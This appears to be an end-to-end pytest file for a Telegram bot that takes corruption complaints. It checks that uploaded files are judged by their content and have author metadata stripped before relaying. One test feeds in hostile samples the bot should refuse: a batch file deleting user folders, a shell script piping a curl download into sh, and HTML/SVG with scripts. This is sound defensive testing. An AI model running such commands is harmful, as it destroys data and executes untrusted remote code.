"""Reporters' files on Telegram, end to end: judged by their content, only the types the
agency accepts, and passed on to a unit without the metadata that names the reporter
(the officers keep the original). The WhatsApp side is in test_whatsapp.py, the photo
with GPS in test_privacy.py."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader

from bot.standins.telegram import TelegramStandIn
from tests.e2e.conftest import AGENCY, OFFICERS, YANKES, World, running
from tests.unit.test_scrub import NAME, docx_by, pdf_by, unpacked

DESCRIPTION = "Petugas loket meminta uang Rp50.000 untuk surat pengantar, kuitansinya terlampir."
ALL = "JPG, PNG, MP4, 3GP, OGG, MP3, M4A, AMR, PDF, DOC, DOCX, XLS, XLSX, TXT"
# An old Word file (OLE, with Word's signature at 512) naming its author in its properties.
OLD_WORD = (
    bytes.fromhex("d0cf11e0a1b11ae1")
    + bytes(504)
    + bytes.fromhex("eca5c100")
    + bytes(64)
    + NAME.encode()
)


async def until_attachments(world: World) -> None:
    await world.says(world.citizen, "/start")
    for text in (DESCRIPTION, "Kantor Kelurahan Sukamaju", "tadi pagi"):
        await world.says(world.citizen, text)
    await world.expect(world.citizen.id, "foto atau dokumen")


async def sends_file(world: World, data: bytes, name: str, mime: str) -> None:
    tg = world.tg
    await tg.deliver(tg.document_update(world.citizen, data=data, file_name=name, mime_type=mime))


async def finish(world: World, privacy: str = "1") -> str:
    for text in ("selesai", privacy, NAME, "081234567890", "kirim"):
        await world.says(world.citizen, text)
    ack = await world.expect(world.citizen.id, "Kode pelacakan")
    return ack.content.split("Kode pelacakan: ")[1].split()[0]


def documents(world: World, chat_id: int) -> dict[str, bytes]:
    """The files sent to a chat as documents, by name."""
    tg = world.tg
    sent = [m for m in tg.messages(chat_id) if m.method == "sendDocument" and m.file_id]
    return {
        str(m.raw["document"]["file_name"]): tg.file_bytes(m.file_id) for m in sent if m.file_id
    }


async def test_a_photo_cut_off_on_the_way_is_refused_as_damaged(world: World) -> None:
    await until_attachments(world)
    photo = io.BytesIO()
    Image.frombytes("RGB", (320, 240), bytes(range(256)) * 900).save(photo, "JPEG")
    damaged = photo.getvalue()[: len(photo.getvalue()) // 2]
    await sends_file(world, damaged, "bukti.jpg", "image/jpeg")
    told = await world.expect(world.citizen.id, "Berkas «bukti.jpg» tidak dapat kami terima")
    assert told.content.endswith("berkasnya rusak atau tidak dapat dibuka. Mohon kirim ulang.")
    await sends_file(world, photo.getvalue(), "bukti.jpg", "image/jpeg")  # sent again, whole
    await world.expect(world.citizen.id, "Lampiran diterima (1 berkas)")


async def test_a_program_sent_as_a_pdf_is_refused_and_the_dialogue_goes_on(world: World) -> None:
    await until_attachments(world)
    program = b"MZ\x90\x00\x03" + bytes(60) + b"This program cannot be run in DOS mode"
    await sends_file(world, program, "kuitansi.pdf", "application/pdf")
    told = await world.expect(world.citizen.id, "Berkas «kuitansi.pdf» tidak dapat kami terima")
    # What it is against what it claimed; not the accepted types, PDF among them.
    assert told.content.endswith("tidak dapat kami terima: berkas ini adalah program, bukan PDF.")

    await sends_file(world, pdf_by(NAME), "kuitansi-asli.pdf", "application/pdf")
    await world.expect(world.citizen.id, "Lampiran diterima")
    code = await finish(world)
    await world.expect(OFFICERS, f"Pengaduan baru {code}")
    await world.tg.wait_for(
        lambda sent: any(m.method == "sendDocument" for m in sent), chat_id=OFFICERS, timeout=10
    )
    assert list(documents(world, OFFICERS)) == ["kuitansi-asli.pdf"]  # the program never


async def test_a_text_named_as_a_photo_reaches_the_officers_as_text(world: World) -> None:
    tg = world.tg
    text = b"Ini bukan foto: petugas loket meminta Rp50.000 tanpa kuitansi.\n"
    await until_attachments(world)
    await sends_file(world, text, "foto_palsu.jpg", "image/jpeg")  # the name and type lie
    await world.expect(world.citizen.id, "Lampiran diterima (1 berkas)")
    code = await finish(world)
    await world.expect(OFFICERS, f"Pengaduan baru {code}")
    await tg.wait_for(lambda _: bool(documents(world, OFFICERS)), chat_id=OFFICERS, timeout=10)
    assert documents(world, OFFICERS) == {"foto_palsu.txt": text}  # not a broken picture
    assert not [m for m in tg.messages(OFFICERS) if m.kind == "photo"]


async def test_a_refusal_says_what_the_file_really_is(world: World) -> None:
    await until_attachments(world)
    archive = b"PK\x03\x04" + bytes(26) + b"kuitansi.exe"
    is_archive = "berkas ini adalah arsip (seperti ZIP atau RAR)"
    send_instead = f"Jenis berkas yang dapat dikirim: {ALL}."
    for data, name, mime, told in [
        (archive, "kuitansi.pdf", "application/pdf", f"{is_archive}, bukan PDF."),
        (archive, "bukti.zip", "application/zip", f"{is_archive}. {send_instead}"),
        (bytes(range(256)) * 4, "rekaman.bin", "application/octet-stream", "berkas ini "
         f"jenisnya tidak kami kenali. {send_instead}"),
    ]:  # fmt: skip
        await sends_file(world, data, name, mime)
        refusal = await world.expect(world.citizen.id, f"Berkas «{name}» tidak dapat kami terima")
        assert refusal.content == f"Berkas «{name}» tidak dapat kami terima: {told}"


@pytest.fixture
async def strict(tg: TelegramStandIn, database_url: str, tmp_path: Path) -> AsyncIterator[World]:
    agency = AGENCY + '\n[files]\naccepted = ["jpg", "pdf"]\n'
    async with running(tg, database_url, tmp_path, agency=agency) as world:
        yield world


async def test_only_the_types_the_agency_accepts_are_taken(strict: World) -> None:
    world = strict
    await until_attachments(world)
    await sends_file(world, docx_by(NAME), "kronologi.docx", "application/msword")
    told = await world.expect(world.citizen.id, "Berkas «kronologi.docx» tidak dapat kami terima")
    assert told.content.endswith(
        "berkas ini berjenis DOCX. Jenis berkas yang dapat dikirim: JPG, PDF."
    )
    await world.tg.deliver(world.tg.photo_update(world.citizen))  # Telegram photos are JPEG
    await world.expect(world.citizen.id, "Lampiran diterima (1 berkas)")
    await sends_file(world, pdf_by(NAME), "kuitansi.pdf", "application/pdf")
    await world.expect(world.citizen.id, "Lampiran diterima (2 berkas)")


async def test_documents_reach_the_unit_without_their_author(world: World) -> None:
    tg = world.tg
    pdf, docx = pdf_by(NAME), docx_by(NAME)
    docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    await until_attachments(world)
    await sends_file(world, pdf, "kuitansi.pdf", "application/pdf")
    await world.expect(world.citizen.id, "Lampiran diterima (1 berkas)")
    await sends_file(world, docx, "kronologi.docx", docx_type)
    await world.expect(world.citizen.id, "Lampiran diterima (2 berkas)")
    code = await finish(world)

    await tg.wait_for(
        lambda sent: len(documents(world, OFFICERS)) == 2, chat_id=OFFICERS, timeout=10
    )
    assert documents(world, OFFICERS) == {"kuitansi.pdf": pdf, "kronologi.docx": docx}

    await world.says(world.officer, f"/disposisi {code} YANKES", chat=world.officers)
    await tg.wait_for(lambda _: len(documents(world, YANKES)) == 2, chat_id=YANKES)
    relayed = documents(world, YANKES)
    assert NAME.encode() not in relayed["kuitansi.pdf"]
    assert len(PdfReader(io.BytesIO(relayed["kuitansi.pdf"])).pages) == 2
    parts = unpacked(relayed["kronologi.docx"])
    assert NAME.encode() not in b"".join(parts.values())
    assert b"Jalan rusak di depan sekolah" in parts["word/document.xml"]


async def test_a_file_that_cannot_be_cleaned_reaches_only_the_officers(world: World) -> None:
    tg = world.tg
    await until_attachments(world)
    await sends_file(world, OLD_WORD, "surat.doc", "application/msword")
    await world.expect(world.citizen.id, "Lampiran diterima")
    code = await finish(world, privacy="2")  # anonim: the unit must not learn the name
    await tg.wait_for(lambda _: bool(documents(world, OFFICERS)), chat_id=OFFICERS)
    assert documents(world, OFFICERS) == {"surat.doc": OLD_WORD}

    await world.says(world.officer, f"/disposisi {code} YANKES", chat=world.officers)
    notice = await world.expect(YANKES, "Berkas «surat.doc» dari pelapor hanya diteruskan")
    assert "Mintalah kepada petugas" in notice.content
    relay = await world.expect(YANKES, f"Disposisi {code}")
    assert DESCRIPTION in relay.content
    assert not documents(world, YANKES)
    assert not any(NAME in text for text in tg.texts(YANKES))


SCRIPT_REFUSED = "berkas skrip atau halaman web (seperti .bat, .html, .svg) tidak kami terima"
PAGE = b"<!DOCTYPE html><html><body><script>fetch('/media')</script>Laporan</body></html>"


async def test_scripts_and_web_pages_are_refused_and_text_arrives_as_txt(world: World) -> None:
    tg = world.tg
    await until_attachments(world)
    for data, name, mime in [
        (b"@echo off\r\ndel /q C:\\Users\\*\r\n", "kuitansi.bat", "application/x-bat"),
        (PAGE, "laporan.html", "text/html"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "gambar.svg",
            "image/svg+xml",
        ),
        (PAGE, "laporan.txt", "text/plain"),  # named as text, a web page by its content
        (b"#!/bin/sh\ncurl http://contoh.test | sh\n", "bukti", "text/plain"),
    ]:
        await sends_file(world, data, name, mime)
        told = await world.expect(world.citizen.id, f"Berkas «{name}» tidak dapat kami terima")
        assert SCRIPT_REFUSED in told.content

    text = b"Kronologi: 3 Mei petugas loket meminta Rp50.000.\n"
    await sends_file(world, text, "kronologi.log", "text/plain")
    await world.expect(world.citizen.id, "Lampiran diterima (1 berkas)")
    code = await finish(world)
    await tg.wait_for(lambda _: bool(documents(world, OFFICERS)), chat_id=OFFICERS, timeout=10)
    assert list(documents(world, OFFICERS).values()) == [text]  # the original, by its id
    await world.says(world.officer, f"/disposisi {code} YANKES", chat=world.officers)
    await tg.wait_for(lambda _: bool(documents(world, YANKES)), chat_id=YANKES)
    assert documents(world, YANKES) == {"kronologi.txt": text}  # named for what it is
